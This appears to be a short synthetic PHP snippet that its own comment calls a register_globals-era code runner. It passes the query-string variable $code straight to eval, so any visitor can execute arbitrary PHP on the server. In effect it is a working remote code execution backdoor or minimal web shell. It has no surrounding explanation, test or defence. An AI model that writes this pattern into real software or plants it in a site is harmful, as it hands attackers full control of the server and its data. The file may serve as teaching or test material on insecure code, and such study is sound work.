<?php
// synthetic: register_globals-era code runner (the variable arrives from the query string)
$src = trim($code);
eval("?" . ">$src");
